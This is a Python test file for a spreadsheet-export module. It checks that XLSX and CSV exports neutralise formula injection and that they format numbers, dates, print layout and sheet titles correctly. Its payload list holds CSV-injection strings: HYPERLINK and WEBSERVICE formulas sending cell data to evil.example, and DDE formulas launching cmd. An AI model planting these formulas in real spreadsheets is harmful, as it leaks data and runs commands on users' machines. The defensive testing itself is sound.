"""Exports keep every text a text, every day a day, and print well."""

import io
from datetime import UTC, date, datetime
from decimal import Decimal
from xml.sax.saxutils import escape
from zipfile import ZipFile

import openpyxl
import pytest

from common.spreadsheets.columns import writable
from common.spreadsheets.csv import csv_lines
from common.spreadsheets.reading import open_workbook
from common.spreadsheets.writing import (
    Column,
    Kind,
    SheetOf,
    cell_value,
    sheet_title,
    workbook_bytes,
)

PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "\"=1+1\"",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "%0A=1+1",
    "{=1+1}",
    "=1+1\";=2+2",
    "#N/A",
    "#REF!",
    "TRUE",
    "1E5",
    "0043",
    "2023-4-7",
    "<script>alert(1)</script>",
    "&lt;b&gt;&amp;",
    "]]>",
    "<f>1+1</f>",
    "{{ 7*7 }}",
    "关于建立“=”的建议\n第二行",
]  # fmt: skip
COLUMNS = [
    Column("编号", lambda row: row["number"], width=12),
    Column("件数", lambda row: row["count"], kind=Kind.INTEGER),
    Column("占比", lambda row: row["share"], kind=Kind.DECIMAL),
    Column("提出日期", lambda row: row["on"], kind=Kind.DATE),
    Column("登记时间", lambda row: row["at"], width=18, kind=Kind.MOMENT),
    Column("重点督办", lambda row: row["key"], kind=Kind.YES_NO),
]
ROW = {
    "number": "0043",
    "count": 12,
    "share": "15.63",
    "on": date(2026, 3, 5),
    "at": datetime(2026, 3, 5, 17, 30, tzinfo=UTC),
    "key": True,
}


def reopened(content, title="台账"):
    return openpyxl.load_workbook(io.BytesIO(content))[title]


def in_one_column(heading, rows):
    """A page with one column that shows its rows as they are."""
    return reopened(workbook_bytes([SheetOf("台账", [Column(heading, lambda row: row)], rows)]))


def test_no_payload_in_any_column_becomes_a_formula_and_all_stay_as_they_were():
    columns = [Column(f"列{n}", lambda row: row) for n in range(5)]

    content = workbook_bytes([SheetOf("台账", columns, PAYLOADS)])

    page = reopened(content)
    cells = [cell for row in page.iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells] == [text for text in PAYLOADS for _ in columns]
    assert "<f>" not in ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()


def test_a_text_that_starts_like_a_formula_carries_the_apostrophe_mark():
    page = in_one_column("标题", PAYLOADS)

    marked = [row[0].value for row in page.iter_rows(min_row=2) if row[0].quotePrefix]
    assert marked == [
        text
        for text in PAYLOADS
        if text.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))
    ]


def test_a_heading_may_hold_anything_too():
    content = workbook_bytes([SheetOf("台账", [Column("=1+1", lambda row: row)], ["x"])])

    assert (reopened(content)["A1"].data_type, reopened(content)["A1"].value) == (
        "s",
        "=1+1",
    )


def test_csv_puts_an_apostrophe_before_what_would_be_a_formula():
    lines = list(csv_lines([Column("标题", lambda row: row)], ["=1+1", "@x", "平常", None, 'a"b']))

    assert lines == ["\ufeff标题\r\n", "'=1+1\r\n", "'@x\r\n", "平常\r\n", '""\r\n', '"a""b"\r\n']


def test_values_are_written_as_what_they_are():
    page = reopened(workbook_bytes([SheetOf("台账", COLUMNS, [ROW])]))

    assert [cell.value for cell in page[1]] == [column.heading for column in COLUMNS]
    assert [(cell.value, cell.number_format) for cell in page[2]] == [
        ("0043", "@"),
        (12, "0"),
        (15.63, "0.00"),
        (datetime(2026, 3, 5), "yyyy-mm-dd"),  # noqa: DTZ001 -- a cell knows no zone
        (datetime(2026, 3, 6, 1, 30), "yyyy-mm-dd hh:mm"),  # noqa: DTZ001
        ("是", "@"),
    ]


def test_a_sheet_prints_on_landscape_a4_with_its_header_on_each_page():
    page = reopened(workbook_bytes([SheetOf("台账", COLUMNS, [ROW, ROW])]))

    assert page.freeze_panes == "A2"
    assert page.print_title_rows == "$1:$1"
    assert (page.page_setup.orientation, int(page.page_setup.paperSize)) == ("landscape", 9)
    assert (page.page_setup.fitToWidth, page.page_setup.fitToHeight) == (1, 0)
    assert page.auto_filter.ref == "A1:F3"
    assert page.column_dimensions["E"].width == 18
    assert page.oddFooter.center.text == "第 &P 页，共 &N 页"


def test_what_a_cell_cannot_hold_is_dropped_or_cut_aloud():
    assert writable("一\x00二\x0b三\x1f四\ufffe") == "一二三四"
    assert len(writable("长" * 40_000)) == 32_767
    assert writable("长" * 40_000).endswith("……（超出单元格容量，全文见系统）")


@pytest.mark.parametrize(
    ("title", "written"),
    [
        ("建议台账", "建议台账"),
        ("2026/2027[一]*?:\\", "2026 2027 一"),
        ("", "工作表"),
        ("甲" * 40, "甲" * 31),
    ],
)
def test_a_sheet_title_is_made_one_that_excel_accepts(title, written):
    assert sheet_title(title) == written


def test_empty_values_leave_empty_cells():
    assert [cell_value(kind, None) for kind in Kind] == [None] * len(Kind)
    assert cell_value(Kind.TEXT, "") is None
    assert cell_value(Kind.INTEGER, 0) == 0
    assert cell_value(Kind.YES_NO, False) == "否"
    assert cell_value(Kind.DECIMAL, "100.00") == Decimal("100.00")


def test_what_no_number_or_day_can_be_is_written_as_text():
    values = [float("nan"), Decimal("Infinity"), date(1899, 12, 31), object, "一二"]

    assert [type(cell_value(Kind.INTEGER, value)) for value in values] == [str] * 5
    assert cell_value(Kind.INTEGER, True) == "是"
    assert cell_value(Kind.DATE, date(1949, 10, 1)) == date(1949, 10, 1)


def test_an_empty_sheet_and_a_sheet_without_columns_open():
    page = reopened(workbook_bytes([SheetOf("台账", COLUMNS, []), SheetOf("空", [], [])]))

    assert (page.max_row, page.auto_filter.ref) == (1, "A1:F1")


def test_what_is_written_is_read_back_the_same():
    sheets = [SheetOf("建议台账", COLUMNS, [ROW]), SheetOf("承诺事项", COLUMNS, [])]

    with open_workbook(io.BytesIO(workbook_bytes(sheets))) as book:
        row = next(iter(book.sheet("建议台账")))

        assert row.text("编号") == "0043"
        assert row.integer("件数") == 12
        assert row.date("提出日期") == date(2026, 3, 5)
        assert row.yes_no("重点督办") is True
        assert list(book.sheet("承诺事项")) == []
    assert book.faults == []


def test_rows_are_drawn_one_by_one_and_never_held_together():
    alive, most = 0, 0

    class Held:
        def __init__(self):
            nonlocal alive, most
            alive += 1
            most = max(most, alive)

        def __del__(self):
            nonlocal alive
            alive -= 1

    workbook_bytes(
        [SheetOf("台账", [Column("甲", lambda row: "乙")], (Held() for _ in range(500)))]
    )

    assert most <= 3


def test_escaped_markup_survives():
    text = escape("<a href='x'>&</a>")

    page = in_one_column("甲", [text])

    assert page["A2"].value == text
